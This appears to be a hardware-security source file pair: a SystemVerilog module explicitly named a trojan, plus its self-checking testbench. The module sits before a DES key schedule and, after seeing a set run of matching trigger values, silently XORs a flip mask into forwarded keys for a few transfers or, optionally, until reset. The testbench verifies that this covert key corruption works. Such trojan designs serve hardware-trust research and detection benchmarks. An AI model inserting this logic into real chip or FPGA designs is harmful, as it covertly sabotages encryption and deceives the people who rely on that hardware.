// File: rtl/trojan_seq_trigger.sv
// -----------------------------------------------------------------------------
// trojan_seq_trigger
//
// Purpose:
//   Sits between a key source and the DES key schedule input. It watches a
//   trigger bus. Once it has seen THRESH consecutive qualified trigger samples
//   whose low MATCH_W bits equal MATCH_VAL, it arms. While armed, it XORs
//   FLIP_MASK into each key it forwards, for ACTIVE_KEYS transfers, and then
//   disarms. At all other times keys pass through unchanged. The output is
//   registered with a one-cycle valid strobe.
//
// Ports:
//   clk           in   rising-edge clock
//   rst_n         in   asynchronous active-low reset
//   trigger       in   [TRIG_W-1:0] trigger sample bus
//   trig_valid    in   trigger sample qualifier
//   key           in   [KEY_W-1:0] incoming key
//   key_valid     in   key transfer strobe
//   payload       out  [KEY_W-1:0] registered key, possibly modified
//   payload_valid out  payload strobe, one cycle per key transfer
//   armed         out  high while the FSM is in ARMED
//
// Build option:
//   TROJAN_STICKY_EN - when defined, ARMED is absorbing: every key after
//                      arming is modified until reset. When undefined, ARMED
//                      expires after ACTIVE_KEYS transfers.
// -----------------------------------------------------------------------------
module trojan_seq_trigger #(
  parameter int              KEY_W       = 56,
  parameter int              TRIG_W      = 32,
  parameter int              MATCH_W     = 4,
  parameter int              MATCH_VAL   = 15,
  parameter int              THRESH      = 3,
  parameter int              ACTIVE_KEYS = 2,
  parameter logic [KEY_W-1:0] FLIP_MASK  = KEY_W'(1)
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic [TRIG_W-1:0] trigger,
  input  logic              trig_valid,
  input  logic [KEY_W-1:0]  key,
  input  logic              key_valid,
  output logic [KEY_W-1:0]  payload,
  output logic              payload_valid,
  output logic              armed
);

  localparam int CNT_W = $clog2(THRESH + 1);
  localparam int USE_W = $clog2(ACTIVE_KEYS + 1);

  localparam logic [CNT_W-1:0]   THRESH_C = CNT_W'(THRESH);
  localparam logic [MATCH_W-1:0] MATCH_C  = MATCH_W'(MATCH_VAL);

  typedef enum logic [1:0] {
    S_IDLE,
    S_COUNT,
    S_ARMED
  } state_t;

  state_t r_state;
  state_t w_stateNext;

  logic [CNT_W-1:0] r_matchCnt;
  logic [CNT_W-1:0] w_matchCntNext;
  logic [CNT_W-1:0] w_matchInc;

  logic             r_armed;
  logic [KEY_W-1:0] r_payload;
  logic             r_payloadValid;

  logic             w_match;
  logic             w_unusedTrig;

`ifdef TROJAN_STICKY_EN
`else
  localparam logic [USE_W-1:0] ACTIVE_C = USE_W'(ACTIVE_KEYS);

  logic [USE_W-1:0] r_useCnt;
  logic [USE_W-1:0] w_useCntNext;
  logic [USE_W-1:0] w_useInc;

  // The counter stays below ACTIVE_KEYS while armed, so the increment
  // never overflows the counter width.
  assign w_useInc = r_useCnt + USE_W'(1);
`endif

  // Only the low MATCH_W trigger bits take part in the compare; the rest
  // of the bus is deliberately ignored.
  assign w_match      = trig_valid && (trigger[MATCH_W-1:0] == MATCH_C);
  assign w_unusedTrig = |trigger;

  // The run counter stays below THRESH outside ARMED, so this cannot wrap.
  assign w_matchInc = r_matchCnt + CNT_W'(1);

  // Next-state logic. ARMED ignores the trigger bus completely; in COUNT a
  // cycle with trig_valid low holds progress, so gaps do not break the run.
  always_comb begin
    w_stateNext    = r_state;
    w_matchCntNext = r_matchCnt;
`ifdef TROJAN_STICKY_EN
`else
    w_useCntNext   = r_useCnt;
`endif
    case (r_state)
      S_IDLE: begin
        if (w_match) begin
          if (THRESH == 1) begin
            w_stateNext = S_ARMED;
          end else begin
            w_stateNext    = S_COUNT;
            w_matchCntNext = CNT_W'(1);
          end
`ifdef TROJAN_STICKY_EN
`else
          w_useCntNext = '0;
`endif
        end
      end
      S_COUNT: begin
        if (w_match) begin
          if (w_matchInc == THRESH_C) begin
            w_stateNext    = S_ARMED;
            w_matchCntNext = '0;
`ifdef TROJAN_STICKY_EN
`else
            w_useCntNext   = '0;
`endif
          end else begin
            w_matchCntNext = w_matchInc;
          end
        end else if (trig_valid) begin
          w_stateNext    = S_IDLE;
          w_matchCntNext = '0;
        end
      end
      S_ARMED: begin
`ifdef TROJAN_STICKY_EN
        w_stateNext = S_ARMED;
`else
        if (key_valid) begin
          if (w_useInc == ACTIVE_C) begin
            w_stateNext  = S_IDLE;
            w_useCntNext = '0;
          end else begin
            w_useCntNext = w_useInc;
          end
        end
`endif
      end
      default: begin
        w_stateNext    = S_IDLE;
        w_matchCntNext = '0;
`ifdef TROJAN_STICKY_EN
`else
        w_useCntNext   = '0;
`endif
      end
    endcase
  end

  // State and counter registers. The armed flag is a flop loaded with the
  // same next state, so it always mirrors the state register exactly.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      r_state    <= S_IDLE;
      r_matchCnt <= '0;
      r_armed    <= 1'b0;
`ifdef TROJAN_STICKY_EN
`else
      r_useCnt   <= '0;
`endif
    end else begin
      r_state    <= w_stateNext;
      r_matchCnt <= w_matchCntNext;
      r_armed    <= (w_stateNext == S_ARMED);
`ifdef TROJAN_STICKY_EN
`else
      r_useCnt   <= w_useCntNext;
`endif
    end
  end

  // Datapath. The state before the edge decides whether a key is modified,
  // so a key coinciding with the arming match passes clean while the key
  // that exhausts the budget is still flipped.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      r_payload      <= '0;
      r_payloadValid <= 1'b0;
    end else begin
      r_payloadValid <= key_valid;
      if (key_valid) begin
        if (r_state == S_ARMED) begin
          r_payload <= key ^ FLIP_MASK;
        end else begin
          r_payload <= key;
        end
      end
    end
  end

  assign payload       = r_payload;
  assign payload_valid = r_payloadValid;
  assign armed         = r_armed;

endmodule

// File: tb/tb_trojan_seq_trigger.sv
module tb_trojan_seq_trigger;

  localparam int              KEY_W       = 56;
  localparam int              TRIG_W      = 32;
  localparam int              MATCH_W     = 4;
  localparam int              MATCH_VAL   = 15;
  localparam int              THRESH      = 3;
  localparam int              ACTIVE_KEYS = 2;
  localparam logic [KEY_W-1:0] FLIP_MASK  = 56'h1;

  logic              clk = 1'b0;
  logic              rst_n = 1'b0;
  logic [TRIG_W-1:0] trigger = '0;
  logic              trig_valid = 1'b0;
  logic [KEY_W-1:0]  key = '0;
  logic              key_valid = 1'b0;
  logic [KEY_W-1:0]  payload;
  logic              payload_valid;
  logic              armed;

  int nVectors = 0;
  int nMiscompares = 0;

  // Behavioural model: length of the current matching run, whether the
  // trojan is live, and how many keys it has spoiled this time round.
  int               streak = 0;
  int               used = 0;
  bit               mArmed = 1'b0;
  logic [KEY_W-1:0] mPayload = '0;
  logic             mValid = 1'b0;

  trojan_seq_trigger #(
    .KEY_W      (KEY_W),
    .TRIG_W     (TRIG_W),
    .MATCH_W    (MATCH_W),
    .MATCH_VAL  (MATCH_VAL),
    .THRESH     (THRESH),
    .ACTIVE_KEYS(ACTIVE_KEYS),
    .FLIP_MASK  (FLIP_MASK)
  ) dut (
    .clk          (clk),
    .rst_n        (rst_n),
    .trigger      (trigger),
    .trig_valid   (trig_valid),
    .key          (key),
    .key_valid    (key_valid),
    .payload      (payload),
    .payload_valid(payload_valid),
    .armed        (armed)
  );

  // Free-running clock, 10 time units per period.
  always #5 clk = ~clk;

  // Clears the model to its power-on picture.
  task automatic modelReset();
    streak   = 0;
    used     = 0;
    mArmed   = 1'b0;
    mPayload = '0;
    mValid   = 1'b0;
  endtask

  // Drives one cycle of inputs, advances the model by the same cycle and
  // returns 1 time unit after the rising edge, ready for sampling.
  task automatic applyStimulus(input logic [TRIG_W-1:0] trig, input logic tv,
                               input logic [KEY_W-1:0] k, input logic kv);
    bit isMatch;
    trigger    = trig;
    trig_valid = tv;
    key        = k;
    key_valid  = kv;
    isMatch = tv && ((trig % (1 << MATCH_W)) == MATCH_VAL);
    mValid  = kv;
    if (kv) mPayload = mArmed ? (k ^ FLIP_MASK) : k;
    if (mArmed) begin
      if (kv) begin
        used++;
`ifndef TROJAN_STICKY_EN
        if (used == ACTIVE_KEYS) begin
          mArmed = 1'b0;
          used   = 0;
        end
`endif
      end
    end else if (isMatch) begin
      streak++;
      if (streak == THRESH) begin
        mArmed = 1'b1;
        streak = 0;
        used   = 0;
      end
    end else if (tv) begin
      streak = 0;
    end
    @(posedge clk);
    #1;
    trig_valid = 1'b0;
    key_valid  = 1'b0;
  endtask

  // Synchronised reset, released one unit after an edge.
  task automatic doReset();
    rst_n      = 1'b0;
    trig_valid = 1'b0;
    key_valid  = 1'b0;
    @(posedge clk);
    #1;
    rst_n = 1'b1;
    modelReset();
  endtask

  task automatic test_reset();
    rst_n = 1'b0;
    #3;
    nVectors++;
    if (payload !== '0) begin
      nMiscompares++;
      $display("[TB] FAIL reset_payload: got %h want 0", payload);
    end
    nVectors++;
    if (payload_valid !== 1'b0) begin
      nMiscompares++;
      $display("[TB] FAIL reset_valid: got %b want 0", payload_valid);
    end
    nVectors++;
    if (armed !== 1'b0) begin
      nMiscompares++;
      $display("[TB] FAIL reset_armed: got %b want 0", armed);
    end
    doReset();
  endtask

  task automatic test_passthrough();
    doReset();
    applyStimulus('0, 1'b0, 56'h00FF_0000_1234_5678, 1'b1);
    nVectors++;
    if (payload !== 56'h00FF_0000_1234_5678) begin
      nMiscompares++;
      $display("[TB] FAIL pass_payload: got %h want %h", payload, 56'h00FF_0000_1234_5678);
    end
    nVectors++;
    if (payload_valid !== 1'b1) begin
      nMiscompares++;
      $display("[TB] FAIL pass_valid: got %b want 1", payload_valid);
    end
    nVectors++;
    if (armed !== mArmed) begin
      nMiscompares++;
      $display("[TB] FAIL pass_armed: got %b want %b", armed, mArmed);
    end
    applyStimulus('0, 1'b0, '0, 1'b0);
    nVectors++;
    if (payload_valid !== 1'b0 || payload !== mPayload) begin
      nMiscompares++;
      $display("[TB] FAIL pass_hold: got v=%b %h want v=0 %h", payload_valid, payload, mPayload);
    end
  endtask

  task automatic test_arm_and_expire();
    logic [TRIG_W-1:0] trigs [3];
    logic [KEY_W-1:0]  keys [3];
    trigs = '{32'h0F, 32'h1F, 32'hAF};
    keys  = '{56'h10, 56'h22, 56'h30};
    doReset();
    for (int i = 0; i < 3; i++) begin
      applyStimulus(trigs[i], 1'b1, '0, 1'b0);
      nVectors++;
      if (armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL arm_step%0d: armed got %b want %b", i, armed, mArmed);
      end
    end
    for (int i = 0; i < 3; i++) begin
      applyStimulus(32'h0F, 1'b1, keys[i], 1'b1);
      nVectors++;
      if (payload !== mPayload || payload_valid !== 1'b1) begin
        nMiscompares++;
        $display("[TB] FAIL expire_key%0d: got v=%b %h want v=1 %h", i, payload_valid, payload, mPayload);
      end
      nVectors++;
      if (armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL expire_armed%0d: got %b want %b", i, armed, mArmed);
      end
    end
  endtask

  task automatic test_broken_run();
    logic [TRIG_W-1:0] trigs [6];
    trigs = '{32'd15, 32'd15, 32'd7, 32'd15, 32'd15, 32'd15};
    doReset();
    for (int i = 0; i < 6; i++) begin
      applyStimulus(trigs[i], 1'b1, '0, 1'b0);
      nVectors++;
      if (armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL broken_step%0d: armed got %b want %b", i, armed, mArmed);
      end
    end
  endtask

  task automatic test_gaps();
    doReset();
    applyStimulus(32'd15, 1'b1, '0, 1'b0);
    applyStimulus(32'd15, 1'b1, '0, 1'b0);
    for (int i = 0; i < 5; i++) begin
      applyStimulus(32'd15, 1'b0, '0, 1'b0);
      nVectors++;
      if (armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL gap_step%0d: armed got %b want %b", i, armed, mArmed);
      end
    end
    applyStimulus(32'd15, 1'b1, '0, 1'b0);
    nVectors++;
    if (armed !== mArmed) begin
      nMiscompares++;
      $display("[TB] FAIL gap_arm: armed got %b want %b", armed, mArmed);
    end
  endtask

  task automatic test_coincident();
    doReset();
    applyStimulus(32'd15, 1'b1, '0, 1'b0);
    applyStimulus(32'd15, 1'b1, '0, 1'b0);
    applyStimulus(32'd15, 1'b1, 56'h40, 1'b1);
    nVectors++;
    if (payload !== mPayload || armed !== mArmed) begin
      nMiscompares++;
      $display("[TB] FAIL coincident_key: got %h armed=%b want %h armed=%b", payload, armed, mPayload, mArmed);
    end
    applyStimulus('0, 1'b0, 56'h40, 1'b1);
    nVectors++;
    if (payload !== mPayload) begin
      nMiscompares++;
      $display("[TB] FAIL coincident_next: got %h want %h", payload, mPayload);
    end
  endtask

  task automatic test_midcycle_reset();
    doReset();
    for (int i = 0; i < 3; i++) applyStimulus(32'd15, 1'b1, '0, 1'b0);
    applyStimulus('0, 1'b0, 56'h50, 1'b1);
    nVectors++;
    if (payload !== mPayload || payload_valid !== 1'b1) begin
      nMiscompares++;
      $display("[TB] FAIL midrst_pre: got v=%b %h want v=1 %h", payload_valid, payload, mPayload);
    end
    #2;
    rst_n = 1'b0;
    modelReset();
    #1;
    nVectors++;
    if (payload !== mPayload || payload_valid !== mValid || armed !== mArmed) begin
      nMiscompares++;
      $display("[TB] FAIL midrst_clear: got %h v=%b a=%b want %h v=%b a=%b",
               payload, payload_valid, armed, mPayload, mValid, mArmed);
    end
    @(posedge clk);
    #1;
    rst_n = 1'b1;
    applyStimulus('0, 1'b0, 56'h40, 1'b1);
    nVectors++;
    if (payload !== mPayload || armed !== mArmed) begin
      nMiscompares++;
      $display("[TB] FAIL midrst_after: got %h a=%b want %h a=%b", payload, armed, mPayload, mArmed);
    end
  endtask

  task automatic test_sticky();
    doReset();
    for (int i = 0; i < 3; i++) applyStimulus(32'h5F, 1'b1, '0, 1'b0);
    for (int i = 0; i < 5; i++) begin
      applyStimulus($urandom, 1'b1, {$urandom, $urandom}, 1'b1);
      nVectors++;
      if (payload !== mPayload || armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL sticky_key%0d: got %h a=%b want %h a=%b", i, payload, armed, mPayload, mArmed);
      end
    end
  endtask

  task automatic test_random();
    logic [TRIG_W-1:0] t;
    doReset();
    for (int i = 0; i < 400; i++) begin
      t = $urandom;
      if ($urandom_range(0, 3) != 0) t[3:0] = 4'hF;
      applyStimulus(t, 1'($urandom_range(0, 1)), {$urandom, $urandom},
                    1'($urandom_range(0, 2) == 0));
      nVectors++;
      if (payload_valid !== mValid) begin
        nMiscompares++;
        $display("[TB] FAIL rand_valid@%0d: got %b want %b", i, payload_valid, mValid);
      end
      nVectors++;
      if (payload !== mPayload) begin
        nMiscompares++;
        $display("[TB] FAIL rand_payload@%0d: got %h want %h", i, payload, mPayload);
      end
      nVectors++;
      if (armed !== mArmed) begin
        nMiscompares++;
        $display("[TB] FAIL rand_armed@%0d: got %b want %b", i, armed, mArmed);
      end
    end
  endtask

  initial begin
    $display("[TB] starting trojan_seq_trigger bench");
    test_reset();
    test_passthrough();
    test_arm_and_expire();
    test_broken_run();
    test_gaps();
    test_coincident();
    test_midcycle_reset();
    test_sticky();
    test_random();
    $display("== %0d vectors applied, %0d miscompares ==", nVectors, nMiscompares);
    $finish;
  end

endmodule
